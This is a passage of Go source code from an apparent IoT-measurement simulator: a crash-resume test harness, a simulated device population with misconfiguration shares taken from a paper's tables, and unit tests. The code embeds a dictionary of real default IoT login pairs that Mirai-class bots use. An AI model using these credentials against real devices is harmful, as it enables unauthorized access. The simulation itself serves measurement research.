		args = append(args, "-o", filepath.Join(dir, name), "openhire/cmd/"+name)
		cmd := exec.Command("go", args...)
		cmd.Dir = root
		if out, err := cmd.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "building %s: %v\n%s", name, err, out)
			os.RemoveAll(dir)
			os.Exit(1)
		}
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// leg describes one binary's sweep: its arguments (artifact paths relative
// to a per-run working directory, identical across runs so manifests align),
// the extra checkpointing flags, and the kill sites to arm.
type leg struct {
	binary    string
	args      []string
	ckptArgs  []string
	sites     []string
	shortSite string // the one mid-leg commit site -short keeps
	atN       string // the commit site also swept at its third hit
}

func scanLeg() leg {
	return leg{
		binary: "openhire-scan",
		args: []string{
			"-seed", "7", "-prefix", "100.0.0.0/22", "-boost", "16",
			"-workers", "19", "-faults", "calibrated",
			"-out", "results.jsonl", "-trace", "run.trace", "-trace-sample", "4",
			"-manifest", "manifest.json",
		},
		ckptArgs:  []string{"-checkpoint", "ck", "-checkpoint-every", "64"},
		sites:     crashpoint.ScanSites,
		shortSite: crashpoint.SiteScanSegmentCommit,
		atN:       crashpoint.SiteScanSegmentCommit,
	}
}

func telescopeLeg() leg {
	return leg{
		binary: "openhire-telescope",
		args: []string{
			"-seed", "5", "-days", "3", "-scale", "0.0002", "-workers", "4",
			"-rotate", "-out", "flows.csv",
			"-trace", "run.trace", "-trace-sample", "4",
			"-manifest", "manifest.json",
		},
		ckptArgs:  []string{"-checkpoint", "ck"},
		sites:     crashpoint.TelescopeSites,
		shortSite: crashpoint.SiteTelescopeDayCommit,
		atN:       crashpoint.SiteTelescopeDayCommit,
	}
}

func honeypotLeg() leg {
	return leg{
		binary: "openhire-honeypots",
		args: []string{
			"-seed", "9", "-intensity", "0.002", "-workers", "16",
			"-export", "exports", "-trace", "run.trace", "-trace-sample", "4",
			"-manifest", "manifest.json",
		},
		ckptArgs:  []string{"-checkpoint", "ck"},
		sites:     crashpoint.HoneypotSites,
		shortSite: crashpoint.SiteCampaignDayCommit,
		atN:       crashpoint.SiteCampaignDayCommit,
	}
}

func serveLeg() leg {
	return leg{
		binary: "openhire-serve",
		args: []string{
			"-seed", "11", "-prefix", "100.0.0.0/24", "-boost", "16",
			"-workers", "9", "-cycles", "3", "-segments-per-cycle", "2",
			"-segment-targets", "64", "-intensity", "0.002", "-scale", "0.0002",
			"-out", "aggregates.json", "-tsdb-out", "timeseries.json",
			"-telescope-dir", "telescope", "-manifest", "manifest.json",
		},
		ckptArgs:  []string{"-checkpoint", "ck"},
		sites:     crashpoint.ServeSites,
		shortSite: crashpoint.SiteServeCycleCommit,
		atN:       crashpoint.SiteServeCycleCommit,
	}
}

// run executes one child process in dir with an optional armed crashpoint
// and returns its exit code.
func run(t *testing.T, dir string, l leg, crashSpec string, extra ...string) int {
	t.Helper()
	cmd := exec.Command(filepath.Join(binDir, l.binary), append(append([]string{}, l.args...), extra...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), crashpoint.EnvVar+"="+crashSpec)
	out, err := cmd.CombinedOutput()
	if err == nil {
		return 0
	}
	if ee, ok := err.(*exec.ExitError); ok {
		if ee.ExitCode() != crashpoint.ExitCode {
			t.Logf("%s output:\n%s", l.binary, out)
		}
		return ee.ExitCode()
	}
	t.Fatalf("%s: %v\n%s", l.binary, err, out)
	return -1
}

// artifacts lists a run directory's durable outputs (everything except the
// manifest, compared structurally, and the checkpoint directory itself) as
// sorted dir-relative paths.
func artifacts(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		if info.IsDir() {
			if rel == "ck" {
				return filepath.SkipDir
			}
			return nil
		}
		if rel == "manifest.json" {
			return nil
		}
		// A kill inside the atomic-write staging window orphans a hidden
		// ".NAME.tmp*" file; staging files are not durable artifacts.
		if name := filepath.Base(rel); len(name) > 0 && name[0] == '.' {
			return nil
		}
		out = append(out, rel)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

// compareArtifacts asserts every durable output in got is byte-identical to
// golden, and that neither side has files the other lacks.
func compareArtifacts(t *testing.T, label, golden, got string) {
	t.Helper()
	ga, oa := artifacts(t, golden), artifacts(t, got)
	if len(ga) == 0 {
		t.Fatalf("%s: golden run produced no artifacts", label)
	}
	gset := make(map[string]bool, len(ga))
	for _, p := range ga {
		gset[p] = true
	}
	for _, p := range oa {
		if !gset[p] {
			t.Errorf("%s: extra artifact %s", label, p)
		}
	}
	for _, p := range ga {
		want, err := os.ReadFile(filepath.Join(golden, p))
		if err != nil {
			t.Fatal(err)
		}
		gotBytes, err := os.ReadFile(filepath.Join(got, p))
		if err != nil {
			t.Errorf("%s: missing artifact %s", label, p)
			continue
		}
		if !bytes.Equal(want, gotBytes) {
			t.Errorf("%s: artifact %s differs from golden (%d vs %d bytes)",
				label, p, len(want), len(gotBytes))
		}
	}
}

// scrubManifest loads a manifest and removes the fields that legitimately
// vary between a plain, a checkpointing, and a resumed run of the same
// (seed, config): wall-clock phase timings always, and — when dropCkpt is
// set — the checkpointing config flags and the committed-checkpoint records
// themselves. Everything else must match exactly.
func scrubManifest(t *testing.T, path string, dropCkpt bool) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("manifest: %v", err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatalf("manifest %s: %v", path, err)
	}
	if cfg, ok := m["config"].(map[string]any); ok {
		delete(cfg, "resume")
		if dropCkpt {
			delete(cfg, "checkpoint")
			delete(cfg, "checkpoint-every")
		}
	}
	if dropCkpt {
		delete(m, "checkpoints")
	}
	if phases, ok := m["phases"].([]any); ok {
		for _, p := range phases {
			if pm, ok := p.(map[string]any); ok {
				delete(pm, "wall_ns")
			}
		}
	}
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// compareManifests asserts two manifests agree after scrubbing.
func compareManifests(t *testing.T, label, pathA, pathB string, dropCkpt bool) {
	t.Helper()
	a := scrubManifest(t, pathA, dropCkpt)
	b := scrubManifest(t, pathB, dropCkpt)
	if a != b {
		t.Errorf("%s: manifests differ after scrubbing:\n  A: %s\n  B: %s", label, a, b)
	}
}

// sweep drives one leg through the full matrix: golden run, zero-perturbation
// check, then kill-and-resume at each requested site spec.
func sweep(t *testing.T, l leg) {
	t.Parallel()

	golden := t.TempDir()
	if code := run(t, golden, l, ""); code != 0 {
		t.Fatalf("golden run exited %d", code)
	}

	// Zero-perturbation: checkpointing enabled but never killed must emit
	// byte-identical artifacts and a manifest that differs only in the
	// checkpointing flags and records.
	ckptGolden := t.TempDir()
	if code := run(t, ckptGolden, l, "", l.ckptArgs...); code != 0 {
		t.Fatalf("checkpointed golden run exited %d", code)
	}
	compareArtifacts(t, "zero-perturbation", golden, ckptGolden)
	compareManifests(t, "zero-perturbation",
		filepath.Join(golden, "manifest.json"), filepath.Join(ckptGolden, "manifest.json"), true)

	specs := []string{l.shortSite}
	if !testing.Short() {
		specs = specs[:0]
		for _, s := range l.sites {
			specs = append(specs, s)
		}
		specs = append(specs, l.atN+"@3")
	}
	for _, spec := range specs {
		spec := spec
		t.Run(spec, func(t *testing.T) {
			dir := t.TempDir()
			code := run(t, dir, l, spec, l.ckptArgs...)
			if code == 0 {
				t.Fatalf("site %s never fired: killed run exited 0", spec)
			}
			if code != crashpoint.ExitCode {
				t.Fatalf("killed run exited %d, want %d", code, crashpoint.ExitCode)
			}
			if code := run(t, dir, l, "", append(append([]string{}, l.ckptArgs...), "-resume")...); code != 0 {
				t.Fatalf("resume exited %d", code)
			}
			compareArtifacts(t, "kill at "+spec, golden, dir)
			// The resumed manifest's checkpoint records must match the
			// never-killed run's exactly: checkpoint bytes are independent
			// of kill history.
			compareManifests(t, "kill at "+spec,
				filepath.Join(ckptGolden, "manifest.json"), filepath.Join(dir, "manifest.json"), false)
		})
	}
}

func TestCrashResumeScan(t *testing.T)      { sweep(t, scanLeg()) }
func TestCrashResumeTelescope(t *testing.T) { sweep(t, telescopeLeg()) }
func TestCrashResumeHoneypots(t *testing.T) { sweep(t, honeypotLeg()) }
func TestCrashResumeServe(t *testing.T)     { sweep(t, serveLeg()) }
