package iot

import (
	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// DeviceSpec is the fully derived configuration of one simulated device's
// presence on one protocol. Specs are pure functions of (seed, ip, protocol),
// so the population never needs to be materialized.
type DeviceSpec struct {
	IP        netsim.IPv4
	Protocol  Protocol
	Model     DeviceModel
	Misconfig Misconfig
	// WeakCredentials is set when an auth-gated device uses a default
	// credential pair from the common dictionary — the population Mirai-class
	// bots can actually break into.
	WeakCredentials bool
	Username        string
	Password        string
}

// DefaultCredentials is the default-password dictionary shared by devices
// and attackers; the head of the list mirrors the most-used pairs in the
// paper's Table 12.
var DefaultCredentials = []struct{ User, Pass string }{
	{"admin", "admin"},
	{"root", "root"},
	{"root", "admin"},
	{"telnet", "telnet"},
	{"root", "xc3511"},
	{"admin", "admin123"},
	{"root", "12345"},
	{"user", "user"},
	{"admin", "12345"},
	{"admin", "polycom"},
	{"admin", ""},
	{"pi", "raspberry"},
	{"cisco", "cisco"},
	{"zyfwp", "PrOw!aN_fXp"},
	{"admin", "ssh1234"},
}

// UniverseConfig parameterizes the simulated population.
type UniverseConfig struct {
	// Seed drives every derivation.
	Seed uint64
	// Prefix is the covered address range. Experiments default to a /10
	// (1/1024 of IPv4); tests use small prefixes.
	Prefix netsim.Prefix
	// DensityBoost multiplies every exposure density (default 1). Small
	// test universes use boosts so expected counts stay statistically
	// meaningful; experiment reports divide it back out.
	DensityBoost float64
	// HoneypotBoost, when non-zero, overrides DensityBoost for wild
	// honeypot planting. Table 6's family distribution needs hundreds of
	// instances, which at device-level boosts would saturate the host
	// population; the Table 6 experiment oversamples honeypots only and
	// scales the counts back.
	HoneypotBoost float64
	// WeakCredentialShare is the fraction of auth-gated Telnet/SSH devices
	// using a dictionary credential (default 0.15).
	WeakCredentialShare float64
}

// Universe is the lazily derived IoT population. It implements
// netsim.HostProvider.
//
// Note on state: population hosts are rebuilt on every lookup, so protocol
// state (e.g. a poisoned MQTT topic) does not persist across connections.
// Persistent state belongs to explicitly registered hosts (honeypots) and to
// the attack bookkeeping layer.
type Universe struct {
	cfg UniverseConfig
	src *prng.Source

	// weights per protocol for model choice, precomputed.
	modelWeights map[Protocol][]float64
	models       map[Protocol][]DeviceModel

	// exposure caches, per probe-able protocol, the label hash and the
	// boost-applied density. Host consults this table instead of hashing
	// protocol name strings and probing density maps on every lookup —
	// the scanner resolves Host for every probed address, almost all of
	// which are dark.
	exposure []exposureEntry
}

// exposureEntry is one protocol's precomputed exposure-decision inputs.
type exposureEntry struct {
	proto   Protocol
	ph      uint64  // prng.HashString of the protocol's label
	density float64 // exposureDensity × DensityBoost, clamped to 1
	ext     bool    // extension (future-work) protocol
	shares  []classShare
}

// NewUniverse builds a Universe.
func NewUniverse(cfg UniverseConfig) *Universe {
	if cfg.DensityBoost == 0 {
		cfg.DensityBoost = 1
	}
	if cfg.WeakCredentialShare == 0 {
		cfg.WeakCredentialShare = 0.15
	}
	u := &Universe{
		cfg:          cfg,
		src:          prng.New(cfg.Seed),
		modelWeights: make(map[Protocol][]float64),
		models:       make(map[Protocol][]DeviceModel),
	}
	for _, p := range ScannedProtocols {
		models := ModelsFor(p)
		weights := make([]float64, len(models))
		for i, m := range models {
			weights[i] = m.Weight
		}
		u.models[p] = models
		u.modelWeights[p] = weights
	}
	for _, p := range ScannedProtocols {
		u.exposure = append(u.exposure, exposureEntry{
			proto: p, ph: prng.HashString(string(p)),
			density: clampDensity(exposureDensity[p] * cfg.DensityBoost),
			shares:  misconfigShares[p],
		})
	}
	for _, p := range ExtensionProtocols {
		u.exposure = append(u.exposure, exposureEntry{
			proto: p, ph: prng.HashString("ext-" + string(p)),
			density: clampDensity(extensionDensity[p] * cfg.DensityBoost),
			ext:     true,
		})
	}
	return u
}

func clampDensity(d float64) float64 {
	if d > 1 {
		return 1
	}
	return d
}

// Config returns the universe parameters.
func (u *Universe) Config() UniverseConfig { return u.cfg }

// ScaleFactor is what simulated counts must be multiplied by to compare
// with the paper's full-IPv4 numbers.
func (u *Universe) ScaleFactor() float64 {
	return float64(uint64(1)<<32) / (float64(u.cfg.Prefix.Size()) * u.cfg.DensityBoost)
}

// label space for derivations, kept distinct per decision.
var (
	labelExposed = prng.HashString("iot-exposed")
	labelModel   = prng.HashString("iot-model")
	labelClass   = prng.HashString("iot-class")
	labelCred    = prng.HashString("iot-cred")
	labelAltPort = prng.HashString("iot-altport")
)

// Spec derives the device spec for (ip, protocol). ok is false when the
// address does not expose that protocol.
func (u *Universe) Spec(ip netsim.IPv4, p Protocol) (DeviceSpec, bool) {
	if !u.cfg.Prefix.Contains(ip) {
		return DeviceSpec{}, false
	}
	density, known := exposureDensity[p]
	if !known {
		return DeviceSpec{}, false
	}
	return u.specFrom(ip, p, prng.HashString(string(p)), clampDensity(density*u.cfg.DensityBoost))
}

// ExposureAny reports whether ip exposes at least one scanned protocol and
// whether any exposed endpoint is misconfigured. It draws from exactly the
// hash streams Spec uses for the same decisions — the exposure roll and the
// misconfiguration class roll — but skips the model choice and credential
// synthesis that dominate full spec derivation, which the infected-set walk
// over the whole prefix never looks at.
func (u *Universe) ExposureAny(ip netsim.IPv4) (exposed, misconfigured bool) {
	if !u.cfg.Prefix.Contains(ip) {
		return false, false
	}
	pre := u.src.HashPrefix(labelExposed, uint64(ip))
	for i := range u.exposure {
		e := &u.exposure[i]
		if e.ext {
			continue
		}
		h := prng.Hash64From(pre, e.ph)
		if float64(h>>11)/(1<<53) >= e.density {
			continue
		}
		exposed = true
		if misconfigured {
			continue
		}
		cls := prng.New(u.src.Hash64(labelClass, uint64(ip), e.ph))
		roll := cls.Float64()
		for _, cs := range e.shares {
			if roll < cs.share {
				misconfigured = true
				break
			}
			roll -= cs.share
		}
	}
	return exposed, misconfigured
}

// specFrom is Spec with the protocol hash and boost-applied density already
// known (the Host fast path reads them from the exposure table).
func (u *Universe) specFrom(ip netsim.IPv4, p Protocol, ph uint64, density float64) (DeviceSpec, bool) {
	// Exposure decision.
	h := u.src.Hash64(labelExposed, uint64(ip), ph)
	if float64(h>>11)/(1<<53) >= density {
		return DeviceSpec{}, false
	}
	spec := DeviceSpec{IP: ip, Protocol: p}

	// Model choice.
	pick := prng.New(u.src.Hash64(labelModel, uint64(ip), ph))
	models := u.models[p]
	if len(models) > 0 {
		spec.Model = models[pick.WeightedChoice(u.modelWeights[p])]
	}

	// Misconfiguration class.
	cls := prng.New(u.src.Hash64(labelClass, uint64(ip), ph))
	roll := cls.Float64()
	spec.Misconfig = MisconfigNone
	for _, cs := range misconfigShares[p] {
		if roll < cs.share {
			spec.Misconfig = cs.class
			break
		}
		roll -= cs.share
	}

	// Credentials for auth-gated endpoints.
	cred := prng.New(u.src.Hash64(labelCred, uint64(ip), ph))
	if cred.Float64() < u.cfg.WeakCredentialShare {
		spec.WeakCredentials = true
		pair := DefaultCredentials[cred.Zipf(len(DefaultCredentials), 1.2)]
		spec.Username, spec.Password = pair.User, pair.Pass
	} else {
		spec.Username = "admin"
		spec.Password = strongPassword(cred)
	}
	return spec, true
}

func strongPassword(src *prng.Source) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%"
	b := make([]byte, 14)
	for i := range b {
		b[i] = alphabet[src.Intn(len(alphabet))]
	}
	return string(b)
}

// TelnetPort returns which Telnet port the device listens on: most use 23,
// a minority 2323 (which is why the paper scans both, Section 4.1.1).
func (u *Universe) TelnetPort(ip netsim.IPv4) uint16 {
	if u.src.Hash64(labelAltPort, uint64(ip))%100 < 7 {
		return 2323
	}
	return 23
}

// Host implements netsim.HostProvider: it assembles a live host from the
// specs of every protocol the address exposes. Returns nil for dark
// addresses. Wild honeypots shadow devices at their address.
func (u *Universe) Host(ip netsim.IPv4) netsim.Host {
	if !u.cfg.Prefix.Contains(ip) {
		return nil
	}
	if family, ok := u.WildHoneypot(ip); ok {
		return wildHoneypotHost{family: family}
	}
	// Fast path for the overwhelmingly common dark address: one cheap
	// integer hash per protocol against the precomputed exposure table;
	// full spec derivation only runs for exposed (ip, protocol) pairs.
	var specs []DeviceSpec
	for _, e := range u.exposure {
		h := u.src.Hash64(labelExposed, uint64(ip), e.ph)
		if float64(h>>11)/(1<<53) >= e.density {
			continue
		}
		var (
			spec DeviceSpec
			ok   bool
		)
		if e.ext {
			spec, ok = u.extSpecFrom(ip, e.proto, e.ph, e.density)
		} else {
			spec, ok = u.specFrom(ip, e.proto, e.ph, e.density)
		}
		if ok {
			specs = append(specs, spec)
		}
	}
	if len(specs) == 0 {
		return nil
	}
	return newDeviceHost(u, ip, specs)
}

// ExposedProtocols lists the protocols an address exposes, in scan order.
func (u *Universe) ExposedProtocols(ip netsim.IPv4) []Protocol {
	var out []Protocol
	for _, p := range ScannedProtocols {
		if _, ok := u.Spec(ip, p); ok {
			out = append(out, p)
		}
	}
	return out
}

// ExpectedExposed returns the expected number of exposed hosts for a
// protocol in this universe (density × size × boost), for calibration tests.
func (u *Universe) ExpectedExposed(p Protocol) float64 {
	return exposureDensity[p] * u.cfg.DensityBoost * float64(u.cfg.Prefix.Size())
}
