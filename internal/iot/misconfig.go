package iot

// Misconfig identifies one misconfiguration class from the paper's Tables 2,
// 3 and 5. MisconfigNone means the device is exposed but correctly
// configured (auth required, TLS enforced, WAN discovery silent).
type Misconfig uint8

// Misconfiguration classes. Names follow Table 5's vulnerability column.
const (
	MisconfigNone Misconfig = iota
	// Telnet
	TelnetNoAuth     // "No auth" — console access without login
	TelnetNoAuthRoot // "No auth, root access" — root shell without login
	// MQTT
	MQTTNoAuth // "No auth" — CONNECT accepted with code 0
	// AMQP
	AMQPNoAuth // "No auth" — vulnerable version, anonymous admitted
	// XMPP
	XMPPNoEncryption // "No encryption" — PLAIN without TLS
	XMPPAnonymous    // "Anonymous login" — ANONYMOUS mechanism admitted
	// CoAP
	CoAPNoAuthAdmin // "No auth, admin access" — 220-Admin session
	CoAPNoAuth      // "No auth" — full access (x1C / 220)
	CoAPReflector   // "Reflection-attack resource" — discloses resources
	// UPnP
	UPnPReflector // "Reflection-attack resource" — answers WAN discovery
)

// String names the class using the paper's wording.
func (m Misconfig) String() string {
	switch m {
	case MisconfigNone:
		return "none"
	case TelnetNoAuth:
		return "No auth"
	case TelnetNoAuthRoot:
		return "No auth, root access"
	case MQTTNoAuth:
		return "No auth"
	case AMQPNoAuth:
		return "No auth"
	case XMPPNoEncryption:
		return "No encryption"
	case XMPPAnonymous:
		return "Anonymous login"
	case CoAPNoAuthAdmin:
		return "No auth, admin access"
	case CoAPNoAuth:
		return "No auth"
	case CoAPReflector:
		return "Reflection-attack resource"
	case UPnPReflector:
		return "Reflection-attack resource"
	default:
		if s, ok := extensionString(m); ok {
			return s
		}
		return "unknown"
	}
}

// Protocol returns which protocol a class belongs to.
func (m Misconfig) Protocol() Protocol {
	switch m {
	case TelnetNoAuth, TelnetNoAuthRoot:
		return ProtoTelnet
	case MQTTNoAuth:
		return ProtoMQTT
	case AMQPNoAuth:
		return ProtoAMQP
	case XMPPNoEncryption, XMPPAnonymous:
		return ProtoXMPP
	case CoAPNoAuthAdmin, CoAPNoAuth, CoAPReflector:
		return ProtoCoAP
	case UPnPReflector:
		return ProtoUPnP
	default:
		if p, ok := extensionProtocol(m); ok {
			return p
		}
		return ""
	}
}

// classShare is a misconfiguration class with its share of the protocol's
// exposed hosts, derived from Table 5 counts over Table 4 exposure.
type classShare struct {
	class Misconfig
	share float64
}

// misconfigShares maps each protocol to its class distribution. The shares
// are paper-count ratios:
//
//	protocol   exposed (T4)  class (T5)                     count    share
//	Telnet     7,096,465     No auth                        4,013    0.000566
//	                         No auth, root access           22,887   0.003225
//	MQTT       4,842,465     No auth                        102,891  0.021248
//	AMQP       34,542        No auth                        2,731    0.079063
//	XMPP       423,867       No encryption                  5,421    0.012789
//	                         Anonymous login                143,986  0.339696
//	CoAP       618,650       No auth, admin access          427      0.000690
//	                         No auth                        9,067    0.014656
//	                         Reflection-attack resource     543,341  0.878238
//	UPnP       1,381,940     Reflection-attack resource     998,129  0.722266
//
// Everything else is exposed-but-configured (MisconfigNone).
var misconfigShares = map[Protocol][]classShare{
	ProtoTelnet: {
		{TelnetNoAuth, 0.000566},
		{TelnetNoAuthRoot, 0.003225},
	},
	ProtoMQTT: {
		{MQTTNoAuth, 0.021248},
	},
	ProtoAMQP: {
		{AMQPNoAuth, 0.079063},
	},
	ProtoXMPP: {
		{XMPPNoEncryption, 0.012789},
		{XMPPAnonymous, 0.339696},
	},
	ProtoCoAP: {
		{CoAPNoAuthAdmin, 0.000690},
		{CoAPNoAuth, 0.014656},
		{CoAPReflector, 0.878238},
	},
	ProtoUPnP: {
		{UPnPReflector, 0.722266},
	},
}

// exposureDensity is the probability that a random IPv4 address exposes a
// protocol, from Table 4's ZMap counts over the 2^32 address space:
//
//	Telnet 7,096,465/2^32, MQTT 4,842,465/2^32, CoAP 618,650/2^32,
//	UPnP 1,381,940/2^32, XMPP 423,867/2^32, AMQP 34,542/2^32.
var exposureDensity = map[Protocol]float64{
	ProtoTelnet: 7096465.0 / (1 << 32),
	ProtoMQTT:   4842465.0 / (1 << 32),
	ProtoCoAP:   618650.0 / (1 << 32),
	ProtoUPnP:   1381940.0 / (1 << 32),
	ProtoXMPP:   423867.0 / (1 << 32),
	ProtoAMQP:   34542.0 / (1 << 32),
}

// PaperExposedCounts returns Table 4's ZMap column for comparison reports.
func PaperExposedCounts() map[Protocol]int {
	return map[Protocol]int{
		ProtoAMQP:   34542,
		ProtoXMPP:   423867,
		ProtoCoAP:   618650,
		ProtoUPnP:   1381940,
		ProtoMQTT:   4842465,
		ProtoTelnet: 7096465,
	}
}

// PaperMisconfiguredCounts returns Table 5 for comparison reports, keyed by
// class.
func PaperMisconfiguredCounts() map[Misconfig]int {
	return map[Misconfig]int{
		CoAPNoAuthAdmin:  427,
		AMQPNoAuth:       2731,
		TelnetNoAuth:     4013,
		XMPPNoEncryption: 5421,
		CoAPNoAuth:       9067,
		TelnetNoAuthRoot: 22887,
		MQTTNoAuth:       102891,
		XMPPAnonymous:    143986,
		CoAPReflector:    543341,
		UPnPReflector:    998129,
	}
}
