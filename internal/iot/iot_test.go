package iot

import (
	"context"
	"math"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
)

func testUniverse(boost float64) *Universe {
	return NewUniverse(UniverseConfig{
		Seed:         42,
		Prefix:       netsim.MustParsePrefix("100.0.0.0/16"),
		DensityBoost: boost,
	})
}

func TestSpecDeterministic(t *testing.T) {
	u := testUniverse(100)
	ip := netsim.MustParseIPv4("100.0.7.9")
	s1, ok1 := u.Spec(ip, ProtoTelnet)
	s2, ok2 := u.Spec(ip, ProtoTelnet)
	if ok1 != ok2 {
		t.Fatal("existence not deterministic")
	}
	if ok1 && (s1.Model.Name != s2.Model.Name || s1.Misconfig != s2.Misconfig ||
		s1.Password != s2.Password) {
		t.Fatalf("spec not deterministic: %+v vs %+v", s1, s2)
	}
}

func TestSpecOutsidePrefix(t *testing.T) {
	u := testUniverse(100)
	if _, ok := u.Spec(netsim.MustParseIPv4("200.0.0.1"), ProtoTelnet); ok {
		t.Fatal("spec exists outside prefix")
	}
}

func TestExposureDensityMatchesCalibration(t *testing.T) {
	// With boost 100 on a /16, expected Telnet hosts ≈ 7.09M/2^32 × 65536
	// × 100 ≈ 10828. Count the actual population and compare within 4 sigma.
	u := testUniverse(100)
	for _, p := range []Protocol{ProtoTelnet, ProtoMQTT, ProtoUPnP} {
		count := 0
		prefix := u.Config().Prefix
		for i := uint64(0); i < prefix.Size(); i++ {
			if _, ok := u.Spec(prefix.Nth(i), p); ok {
				count++
			}
		}
		want := u.ExpectedExposed(p)
		sigma := math.Sqrt(want)
		if math.Abs(float64(count)-want) > 4*sigma {
			t.Errorf("%s: count %d, expected %.1f ± %.1f", p, count, want, sigma)
		}
	}
}

func TestMisconfigSharesMatchTable5(t *testing.T) {
	u := NewUniverse(UniverseConfig{
		Seed: 7, Prefix: netsim.MustParsePrefix("100.0.0.0/14"), DensityBoost: 300,
	})
	prefix := u.Config().Prefix
	var reflectors, exposed int
	for i := uint64(0); i < prefix.Size(); i += 4 { // sample every 4th address
		if spec, ok := u.Spec(prefix.Nth(i), ProtoCoAP); ok {
			exposed++
			if spec.Misconfig == CoAPReflector {
				reflectors++
			}
		}
	}
	if exposed < 100 {
		t.Fatalf("only %d exposed CoAP hosts sampled", exposed)
	}
	share := float64(reflectors) / float64(exposed)
	if math.Abs(share-0.878) > 0.08 {
		t.Fatalf("CoAP reflector share %.3f, want ~0.878", share)
	}
}

func TestScaleFactor(t *testing.T) {
	u := NewUniverse(UniverseConfig{Seed: 1, Prefix: netsim.MustParsePrefix("0.0.0.0/10"), DensityBoost: 1})
	if got := u.ScaleFactor(); math.Abs(got-1024) > 0.001 {
		t.Fatalf("ScaleFactor = %f, want 1024", got)
	}
	u2 := NewUniverse(UniverseConfig{Seed: 1, Prefix: netsim.MustParsePrefix("0.0.0.0/16"), DensityBoost: 64})
	if got := u2.ScaleFactor(); math.Abs(got-1024) > 0.001 {
		t.Fatalf("boosted ScaleFactor = %f, want 1024", got)
	}
}

func TestWeakCredentialsFromDictionary(t *testing.T) {
	u := testUniverse(2000)
	prefix := u.Config().Prefix
	weak, strong := 0, 0
	inDict := func(user, pass string) bool {
		for _, c := range DefaultCredentials {
			if c.User == user && c.Pass == pass {
				return true
			}
		}
		return false
	}
	for i := uint64(0); i < prefix.Size() && weak+strong < 400; i++ {
		spec, ok := u.Spec(prefix.Nth(i), ProtoTelnet)
		if !ok {
			continue
		}
		if spec.WeakCredentials {
			weak++
			if !inDict(spec.Username, spec.Password) {
				t.Fatalf("weak credential %q/%q not in dictionary", spec.Username, spec.Password)
			}
		} else {
			strong++
			if len(spec.Password) < 10 {
				t.Fatalf("strong password %q too short", spec.Password)
			}
		}
	}
	if weak == 0 || strong == 0 {
		t.Fatalf("degenerate split weak=%d strong=%d", weak, strong)
	}
	share := float64(weak) / float64(weak+strong)
	if math.Abs(share-0.15) > 0.08 {
		t.Fatalf("weak share %.3f, want ~0.15", share)
	}
}

func TestTelnetPortMostlyDefault(t *testing.T) {
	u := testUniverse(1)
	alt := 0
	const n = 5000
	for i := 0; i < n; i++ {
		if u.TelnetPort(netsim.IPv4(i)) == 2323 {
			alt++
		}
	}
	share := float64(alt) / n
	if share < 0.03 || share > 0.12 {
		t.Fatalf("2323 share %.3f", share)
	}
}

// findSpec scans the universe for the first spec matching the predicate.
func findSpec(t *testing.T, u *Universe, p Protocol, pred func(DeviceSpec) bool) DeviceSpec {
	t.Helper()
	prefix := u.Config().Prefix
	for i := uint64(0); i < prefix.Size(); i++ {
		if spec, ok := u.Spec(prefix.Nth(i), p); ok && pred(spec) {
			return spec
		}
	}
	t.Fatalf("no %s spec matching predicate in universe", p)
	return DeviceSpec{}
}

func TestDeviceHostServesTelnetBanner(t *testing.T) {
	u := testUniverse(500)
	spec := findSpec(t, u, ProtoTelnet, func(s DeviceSpec) bool {
		return s.Misconfig == MisconfigNone && s.Model.TelnetBanner != ""
	})
	host := u.Host(spec.IP)
	if host == nil {
		t.Fatal("no host at spec address")
	}
	handler := host.StreamService(u.TelnetPort(spec.IP))
	if handler == nil {
		t.Fatal("telnet port closed")
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: 1, Port: 1}, netsim.Endpoint{IP: spec.IP, Port: 23}, time.Now())
	go func() {
		defer server.Close()
		handler.Serve(context.Background(), server)
	}()
	defer client.Close()
	b, err := telnet.Grab(context.Background(), client, 200*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	// The banner must contain the catalog identifier for device tagging.
	ident := strings.ReplaceAll(spec.Model.Identifier, "\\r\\n", "\r\n")
	if !strings.Contains(b.Text, strings.Split(ident, "\r\n")[0]) {
		t.Fatalf("banner %q missing identifier %q", b.Text, spec.Model.Identifier)
	}
}

func TestDeviceHostMQTTAnonymous(t *testing.T) {
	u := testUniverse(500)
	spec := findSpec(t, u, ProtoMQTT, func(s DeviceSpec) bool {
		return s.Misconfig == MQTTNoAuth
	})
	host := u.Host(spec.IP)
	handler := host.StreamService(1883)
	if handler == nil {
		t.Fatal("mqtt port closed")
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: 1, Port: 1}, netsim.Endpoint{IP: spec.IP, Port: 1883}, time.Now())
	go func() {
		defer server.Close()
		handler.Serve(context.Background(), server)
	}()
	c := mqtt.NewClient(client, time.Second)
	code, err := c.Connect("probe", "", "")
	if err != nil || code != mqtt.ConnAccepted {
		t.Fatalf("Connect = %v, %v", code, err)
	}
	c.Disconnect()
}

func TestDeviceHostCoAPReflector(t *testing.T) {
	u := testUniverse(500)
	spec := findSpec(t, u, ProtoCoAP, func(s DeviceSpec) bool {
		return s.Misconfig == CoAPReflector
	})
	host := u.Host(spec.IP)
	handler := host.DatagramService(5683)
	if handler == nil {
		t.Fatal("coap port closed")
	}
	c := coap.NewClient(1)
	resp := handler.HandleDatagram(netsim.Endpoint{IP: 1, Port: 1}, c.DiscoveryProbe())
	body, disclosed, err := coap.ParseDiscovery(resp)
	if err != nil || !disclosed {
		t.Fatalf("discovery: %v %v", disclosed, err)
	}
	if !strings.Contains(body, "<") {
